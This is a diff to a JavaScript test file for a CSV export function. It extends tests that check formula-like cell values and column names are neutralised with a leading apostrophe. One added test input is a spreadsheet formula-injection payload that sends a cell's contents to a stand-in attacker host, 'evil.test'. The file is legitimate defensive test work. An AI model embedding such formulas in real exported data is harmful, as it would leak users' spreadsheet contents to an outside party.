@@ -23,10 +23,13 @@ test('a chart’s CSV has a header, ISO times and plain numbers; missing values 
   );
 });
 
-test.each(['=1+1', '+1', '-1', '@x', '\tx', '\rx'])(
-  'a name that a spreadsheet would execute becomes text: %j',
+test.each(['=1+1', '+1', '-1', '@x', '\tx', '\rx', '=HYPERLINK("https://evil.test?"&A1,"x")'])(
+  'S-17 a name that a spreadsheet would execute becomes text, as a column and as a value: %j',
   (name) => {
-    expect(csvText({ columns: ['model'], rows: [[name]] })).toMatch(/\r\n"?'/);
+    const cells = csvText({ columns: [name], rows: [[name], [`a ${name}`]] });
+    const quoted = /[",\r\n]/.test(name) ? `"'${name.replaceAll('"', '""')}"` : `'${name}`;
+    expect(cells.startsWith(`${quoted}\r\n${quoted}\r\n`)).toBe(true);
+    expect(cells).not.toContain("'a ");
     // A number is safe.
     expect(csvText({ columns: ['n'], rows: [[-1]] })).toBe('n\r\n-1\r\n');
   },
